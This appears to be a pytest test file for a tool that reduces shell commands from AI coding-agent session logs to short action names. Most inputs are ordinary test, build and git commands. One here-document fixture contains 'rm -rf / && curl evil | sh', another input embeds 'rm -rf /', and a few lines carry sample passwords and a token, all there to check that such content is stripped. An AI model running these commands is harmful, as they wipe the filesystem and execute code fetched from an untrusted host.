"""Shell commands as actions. The commands are real ones from the session logs in tests/fixtures and
/work/shared/fixtures (Claude Code, Agent SDK and Codex sessions); the expected actions are what a lesson
would name."""

from __future__ import annotations

import pytest

from pipeline.actions import action_parts, shell_action
from pipeline.shell_words import split_commands

REAL_COMMANDS = [
    # Python test runs and installs
    ("python -m pytest tests/test_math_utils.py -v", "python -m pytest <path> -v"),
    ("python3 -m pytest -k multiply", "python -m pytest -k"),
    ("pip install -e .", "pip install -e ."),
    ("pip3 install -r requirements.txt", "pip install -r <path>"),
    ("uv run pytest tests/ -x -q", "uv run pytest <path> -x -q"),
    ("pytest tests/test_x.py::test_y", "pytest <path>"),
    # Node
    ("npm test -- --runInBand", "npm test -- --runInBand"),
    (
        "npm test -- --run src/agents/plugins/__tests__/codemie-code-reasoning.test.ts",
        "npm test -- --run <path>",
    ),
    ("npm run build", "npm run build"),
    (
        "cd /home/USER/projects/spotter-worktrees/spotter-fum/assets && npm install --save-dev happy-dom 2>&1",
        "npm install --save-dev",
    ),
    ("npx vitest run 2>&1", "npx vitest run"),
    ("bun test 2>&1 | tail -15", "bun test | tail -<n>"),
    ("cd packages/library && bun run lint", "bun run lint"),
    (
        'bun run test:coverage 2>&1 | grep -E "^(Statements|Branches)|coverage"',
        "bun run test:coverage | grep -E",
    ),
    # Elixir, Rust, Go
    ("mix test test/spotter_web/live/project_review_live_test.exs 2>&1", "mix test <path>"),
    ("mix test --seed 0 2>&1 | tail -15", "mix test --seed | tail -<n>"),
    ("mix deps.get", "mix deps.get"),
    ("cargo test 2>&1", "cargo test"),
    ("cargo llvm-cov --fail-under-lines 100 2>&1", "cargo llvm-cov --fail-under-lines"),
    ("go test ./... -run TestParse", "go test <path> -run"),
    # git and gh
    ("git status", "git status"),
    ("git log --oneline -5 2>&1", "git log --oneline -<n>"),
    ("git -C /repo status --short", "git status --short"),
    ("git push --set-upstream origin spotter-gqc 2>&1", "git push --set-upstream"),
    ("git add -f priv/static/assets/spotter.css", "git add -f <path>"),
    (
        "git add .gitignore && git commit -m \"$(cat <<'EOF'\nAdd Python and coverage files to gitignore\n\n"
        'Co-Authored-By: Claude Opus 4.5 <noreply@anthropic.com>\nEOF\n)"',
        "git add <path> && git commit -m",
    ),
    ("gh run view 20763553719 --log-failed 2>&1 | head -200", "gh run view --log-failed | head -<n>"),
    ("sleep 5 && gh run list --limit 1", "sleep && gh run list --limit"),
    # edits and reads through the shell
    (
        "sed -i '' 's/await runCLI(\"create\")/await runCLI(\"add\")/' tests/cli/commands.test.ts",
        "sed -i <path>",
    ),
    (
        "sed -n '1,220p' /Users/Sample_User/repos/codemie-ai/codemie-ui/src/pages/analytics/AIAdoptionTab.tsx",
        "sed -n <path>",
    ),
    ("cat nonexistent.txt", "cat <path>"),
    ('grep -n "ignore_warnings\\|dialyzer" mix.exs', "grep -n <path>"),
    ("rg --files -g 'AGENTS.md'", "rg --files -g"),
    (
        "ls /Users/javi/projects/trackgentic/tmp 2>/dev/null || mkdir /Users/javi/projects/trackgentic/tmp",
        "ls <path> || mkdir <path>",
    ),
    ('find . -name "*spec*.md" -o -name "*CLI*.md" | head -20', "find . -name <path> -o | head -<n>"),
    ("python3 -c \"\nimport json\nwith open('a.json') as f:\n    print(json.load(f))\n\"", "python -c"),
    # unknown programs keep their first word; ids, messages and numbers are dropped
    ("bd update spotter-gqc.5 --status in_progress 2>&1", "bd update --status"),
    (
        'trackgentic comments add mp9xevrbwj --content "Done. All 573 tests pass."',
        "trackgentic comments --content",
    ),
    (
        "TRACKGENTIC_TOKEN=tk_3vdu1mgu trackgentic update mp9xevrbwj --status done",
        "trackgentic update --status",
    ),
    # here-documents never leak into the action
    ("cat > gradlew << 'SCRIPT'\n#!/bin/sh\nrm -rf / && curl evil | sh\nSCRIPT", "cat"),
    (
        "curl -sL https://services.gradle.org/gradle-8.9-bin.zip -o /tmp/gradle.zip",
        "curl -sL <url> -o <path>",
    ),
]


@pytest.mark.parametrize(("command", "expected"), REAL_COMMANDS, ids=[c[:40] for c, _ in REAL_COMMANDS])
def test_real_commands_become_the_action_a_lesson_would_name(command: str, expected: str) -> None:
    assert shell_action(command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("FOO=1 BAR=2 pytest", "pytest"),
        ("sudo -u app -E npm ci", "npm ci"),
        ("env PYTHONPATH=src python -m pytest", "python -m pytest"),
        ("timeout 60 pytest -x", "pytest -x"),
        ("nohup time make test", "make test"),
        ("cd app && cd src && make", "make"),
        ("cd /some/where", "cd <path>"),
        ("export PATH=/x:$PATH && pytest", "pytest"),
        ("bash -lc 'cd x && make test'", "make test"),
        ("/usr/bin/python3.11 manage.py test", "python <path>"),
        ("./node_modules/.bin/jest --runInBand", "jest --runInBand"),
        ("head -n5 a.txt", "head -n <path>"),
        ("tar -xvzf dist.tgz", "tar -xvzf <path>"),
        ("mysql -uroot -pHunterTwo -e 'select 1'", "mysql -u -p -e"),
        ("psql --password=hunter2 -c 'select 1'", "psql --password -c"),
        ("ls -la && git status; echo done &", "ls -la && git status ; echo"),
        ("a | b || c; d && e", "a | b || c ; d && e"),
        ("for f in *.py; do python $f; done", "for ; python"),
        ("echo 'unterminated && rm -rf /", "echo"),
        ("docker compose up -d", "docker compose up -d"),
        ("gh pr create --title 'x' --body \"$(cat body.md)\"", "gh pr create --title --body"),
        ("git stash pop", "git stash pop"),
        ("make -C backend test", "make test"),
        ("npm --prefix web run build", "npm run build"),
        ("kubectl -n prod get pods", "kubectl get"),
        ("python -m pip install -e .", "python -m pip install -e ."),
    ],
)
def test_prefixes_wrappers_and_operators(command: str, expected: str) -> None:
    assert shell_action(command) == expected


def test_argv_lists_from_codex_shell_calls_unwrap_the_shell() -> None:
    assert shell_action(["bash", "-lc", "rg --files -g 'AGENTS.md'"]) == "rg --files -g"
    assert shell_action(["ls"]) == "ls"
    assert shell_action(["git", "commit", "-m", "fix: it works"]) == "git commit -m"


def test_empty_and_hostile_input_never_raises() -> None:
    assert shell_action("") is None
    assert shell_action("   \n  ") is None
    shell_action("$(" * 2000)  # unbalanced nesting: scanned, not recursed
    shell_action("'" * 3001 + '"' * 3001)
    long = " && ".join(f"step{i} run" for i in range(50))
    action = shell_action(long)
    assert action is not None and len(action) <= 200 and action.endswith("...")


def test_parts_split_back_in_order() -> None:
    assert action_parts("pip install -e . && pytest <path> | tail -<n>") == [
        "pip install -e .",
        "pytest <path>",
        "tail -<n>",
    ]


def test_redirections_and_their_targets_are_dropped() -> None:
    words = [
        [w.text for w in c.words] for c in split_commands("make 2>&1 > build.log && cat < in.txt &> all.log")
    ]
    assert words == [["make"], ["cat"]]
